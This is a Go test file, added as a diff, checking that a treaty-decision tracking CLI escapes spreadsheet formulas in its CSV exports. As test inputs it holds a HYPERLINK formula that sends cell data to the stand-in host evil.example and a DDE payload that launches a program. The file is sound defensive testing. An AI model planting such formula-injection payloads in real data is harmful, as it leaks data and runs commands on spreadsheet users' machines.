@@ -1,0 +1,57 @@
+package main
+
+import (
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestCSVFormulas: text a user stored (a decision's title, a mandate's
+// owner and notes) that a spreadsheet would run as a formula is written
+// to every CSV as text, with a leading quote.
+func TestCSVFormulas(t *testing.T) {
+	dir := t.TempDir()
+	db := filepath.Join(dir, "f.db")
+	const link = `=HYPERLINK("https://evil.example/?"&A1,"see")`
+	text := "Decision MC-7/2: " + link + "\n\nThe Conference of the Parties,\n\n1. Requests the secretariat to report at its eighth meeting.\n"
+	if code, _, errs := runAccord(t, "ingest", "--db", db, "--instrument", "minamata", writeFile(t, dir, "f.txt", []byte(text))); code != 0 {
+		t.Fatal(errs)
+	}
+	var ms []struct{ ID int64 }
+	_, out, _ := runAccord(t, "mandates", "list", "--db", db, "--format", "json")
+	if err := json.Unmarshal([]byte(out), &ms); err != nil || len(ms) != 1 {
+		t.Fatalf("mandates = %s (%v)", out, err)
+	}
+	if code, _, errs := runAccord(t, "mandates", "set", "--db", db, fmt.Sprint(ms[0].ID), "--owner", link, "--note", "-2+3+cmd|' /C calc'!A0", "--who", "@jd"); code != 0 {
+		t.Fatal(errs)
+	}
+	for _, args := range [][]string{
+		{"decisions", "list", "--db", db, "--format", "csv"},
+		{"mandates", "list", "--db", db, "--format", "csv"},
+		{"report", "implementation", "--db", db, "--instrument", "minamata", "--meeting", "COP-7", "--format", "csv"},
+	} {
+		code, out, errs := runAccord(t, args...)
+		if code != 0 {
+			t.Fatalf("%s: %s", args, errs)
+		}
+		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", args, err)
+		}
+		kept := false
+		for _, row := range rows {
+			for _, cell := range row {
+				kept = kept || cell == "'"+link
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+					t.Errorf("%s: cell %q would be read as a formula", args[:2], cell)
+				}
+			}
+		}
+		if !kept {
+			t.Errorf("%s: no cell holds %s after a quote:\n%s", args[:2], link, out)
+		}
+	}
+}
